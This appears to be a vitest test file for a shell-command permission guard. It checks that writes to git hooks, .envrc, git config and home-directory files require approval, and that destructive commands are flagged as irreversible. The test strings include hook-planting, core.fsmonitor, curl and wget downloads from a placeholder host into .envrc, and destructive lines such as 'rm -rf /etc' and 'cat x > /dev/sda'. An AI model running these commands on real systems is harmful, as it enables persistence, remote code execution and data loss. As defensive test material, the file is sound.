import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, expect, test } from 'vitest';
import { type PermissionBench, permissionBench } from '../../../helpers/permission-bench.ts';

let bench: PermissionBench;

beforeEach(() => {
  bench = permissionBench();
  for (const folder of ['sub', 'lib']) mkdirSync(join(bench.workspace, folder));
  mkdirSync(join(bench.home, 'state'));
  writeFileSync(join(bench.workspace, 'sub/.envrc'), '');
  symlinkSync('.git/hooks', join(bench.workspace, 'lnk'));
});

test.each([
  ...['cd .git/hooks && cp ../../p pre-commit', 'cd .git && echo x >> config.worktree', 'cd -P .git; echo x > config'],
  ...[
    'cd sub && cd ../.git/hooks && touch x',
    'cd lnk && touch x',
    'cd lnk/.. && cp p config',
    'pushd .git && tee config',
  ],
  ...['(cd .git && echo x > hooks/y)', "bash -c 'cd .git/hooks && touch x'", "sh -c 'echo x > .envrc'"],
  ...['D=.git; echo x > $D/hooks/y', `D=.git/hooks && cp p "$${'{D}'}/y"`, 'D=.git; E=$D; cd $D && touch config'],
  ...[
    'for f in a .envrc; do echo x > $f; done',
    'F=.envrc; tee "$F"',
    'export F=.envrc; tee $F',
    "bash -c 'F=.envrc; tee $F'",
  ],
  ...[
    'dd if=f of=.envrc',
    'sort -o .envrc f',
    'sort -uo.envrc f',
    'sort --outp=.envrc f',
    'curl -so .envrc http://x.example',
  ],
  ...[
    'install -t .git/hooks f',
    'cp -t .git/hooks f',
    'cp -vt.git/hooks f',
    'cp --target-directory=.git/hooks f',
    'cp --ta .git/hooks f',
  ],
  ...[
    'mv -t .git/hooks f',
    'ln -st .git/hooks f',
    'ln -s f .envrc',
    'mv f .git/hooks',
    'cp f lnk',
    'install -m 755 f .git/hooks/x',
  ],
  ...[
    'cp sub/.envrc .',
    'cp -r x/.vscode .',
    'mv sub/.envrc lib',
    'rsync -a f .git/hooks/',
    'tar -xf a.tar -C .git/hooks',
  ],
  ...[
    'git config core.fsmonitor ./p',
    'git config --add a.b c',
    'git -C sub config a.b c',
    'git config set a.b c',
    'git config -f .git/config a.b c',
  ],
  ...[
    'git config --global alias.x y',
    'git config --unset a.b',
    'git checkout x -- .envrc',
    'git -C .git/hooks checkout x -- .envrc',
  ],
  ...[
    'sed --in-pl s/a/b/ .npmrc',
    'sed -ni p .npmrc',
    'sed -Ei.bak p .npmrc',
    'perl -pi -e 1 .npmrc',
    'rm .envrc',
    'vim .envrc',
  ],
  ...[
    'echo x > .git/hook*',
    'env -C .git/hooks touch x',
    'env --chdir .git/hooks touch x',
    'touch ~/.bashrc',
    'echo x <> .envrc',
  ],
  ...[
    'patch .envrc < p',
    'uniq f .envrc',
    'tee -- .envrc',
    'echo x | tee a .envrc',
    'wget -qO .envrc http://x.example',
  ],
  ...[
    'cp p .git/hook{s,x}/y',
    'tee .git/{x,hooks}/y',
    'cp x "$PWD/.git/hooks/y"',
    'a=.git/hooks/y; b=$a; cp x $b',
    'ln -s .git/hooks h',
  ],
  ...[
    'env -C.git/hooks touch y',
    'env --chdir=.git/hooks touch y',
    'sudo -D .git/hooks touch y',
    'npm config set a b',
    'ln -s .git g; echo x > g/hooks/y',
  ],
  ...['cd .git/hooks && cd ../.. && cp x $OLDPWD/y'],
])('asks in the mode full, as its words say that it writes what is protected: %s', async (line) => {
  expect(await bench.decisionOn(bench.permissions({ mode: 'full' }), line)).toBe('ask');
});

test('follows a line into this program’s own folders', async () => {
  const given = bench.permissions({ mode: 'full' });
  for (const line of [
    'cd ~/state && echo x >> evil.json',
    'cd $HOME/state; touch x',
    'D=~/state; cp x $D',
    'cp -t ~/state x',
  ])
    expect(await bench.decisionOn(given, line), line).toBe('ask');
});

test.each([
  ...['rm --recurs -f /etc', 'rm --r -f /etc/../etc', 'cd /etc && rm -rf .', 'cd / && rm -rf usr', 'chmod --rec 777 /'],
  ...[
    'find src -exec true \\; -exec rm {} \\; / -delete',
    'find / -exec true \\; -exec rm {} \\;',
    "bash -c 'cat x > /dev/sda'",
  ],
])('is a catastrophe: %s', async (line) => {
  expect(await bench.judge(bench.permissions({ mode: 'full' }), bench.command(line))).toMatchObject({
    decision: 'ask',
    is_irreversible: true,
  });
});

test.each([
  ...[
    'cd sub && touch x',
    'cd .git; cd ..; ls',
    'cat .git/config',
    'cat .envrc | tee x',
    'cp .envrc backup',
    'git add .envrc',
  ],
  ...[
    'git config user.name',
    'git config --get a.b',
    'git config --list',
    'git config -l --show-origin',
    'git checkout main',
    'git checkout HEAD',
  ],
  ...['D=src; echo x > $D/y', 'sort -o x f', 'cp -t lib f', 'cd build && rm -rf *', 'echo x > $UNKNOWN/y', 'ps -o pid'],
  ...[
    'for f in a b; do echo x > $f; done',
    'sed -i s/a/b/ f',
    'grep -o x .npmrc',
    'git commit -m .envrc',
    'rm --force x',
  ],
])('runs in the mode full: %s', async (line) => {
  expect(await bench.decisionOn(bench.permissions({ mode: 'full' }), line)).toBe('allow');
});

test.each([
  ['cp p LONG', [], 'allow'],
  ['mv p loop', [], 'allow'],
  ['touch LONG/refs/x', [], 'allow'],
  ['cp p LONG', ['write:prod'], 'allow'],
  // Where a link in a circle leads, only a run would tell.
  ['cp p loop/LONG', ['write:prod'], 'ask'],
  ['touch x', ['write:LONG'], 'allow'],
])('names that are too long and links in a circle are judged as what is not there: %s', async (line, ask, decision) => {
  const long = (text: string): string => text.replaceAll('LONG', 'a'.repeat(300));
  symlinkSync('loop', join(bench.workspace, 'loop'));
  const given = bench.permissions({ mode: 'full', rules: { ask: ask.map(long) } });
  expect(await bench.decisionOn(given, long(line))).toBe(decision);
});
